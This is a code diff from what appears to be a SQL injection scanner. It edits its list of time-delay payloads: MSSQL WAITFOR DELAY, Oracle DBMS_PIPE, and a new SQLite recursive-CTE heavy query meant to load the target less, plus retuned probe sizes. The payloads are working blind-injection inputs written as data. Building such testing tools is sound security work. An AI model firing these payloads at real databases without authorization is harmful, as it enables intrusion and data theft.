@@ -91,13 +91,14 @@ export const DELAY_PAYLOADS: readonly DelayPayload[] = [
     build: (original, ctx, s) => `${original}${ctx.prefix};WAITFOR DELAY '0:0:${s}'-- -`,
   },
   cond('Oracle', (s) => `1=DBMS_PIPE.RECEIVE_MESSAGE('rmp',${s})`),
-  // SQLite has no sleep: hex-encode a random blob of `n` bytes and scan it with LIKE.
-  { ...cond('SQLite', (n) => `1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(${Math.max(1, Math.round(n))}))))`), heavy: true },
+  // SQLite has no sleep: count `n` rows with a recursive CTE. CPU work that streams (no memory grows
+  // with `n`, unlike a large RANDOMBLOB), so it is gentle on the target whatever its speed.
+  { ...cond('SQLite', (n) => `1=(WITH RECURSIVE rmp(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM rmp WHERE x<${Math.max(1, Math.round(n))}) SELECT 1 FROM rmp WHERE x=${Math.max(1, Math.round(n))})`), heavy: true },
 ];
 
-/** Work amount of the first heavy-query probe, and the largest one ever sent. */
-export const HEAVY_CALIBRATION = 10_000_000;
-export const HEAVY_MAX = 100_000_000;
+/** Work amount (rows) of the first heavy-query probe, and the largest one ever sent. */
+export const HEAVY_CALIBRATION = 1_000_000;
+export const HEAVY_MAX = 200_000_000;
 
 /** The contexts worth trying for an original value, most likely first. */
 export function contextsFor(original: string): SqlContext[] {
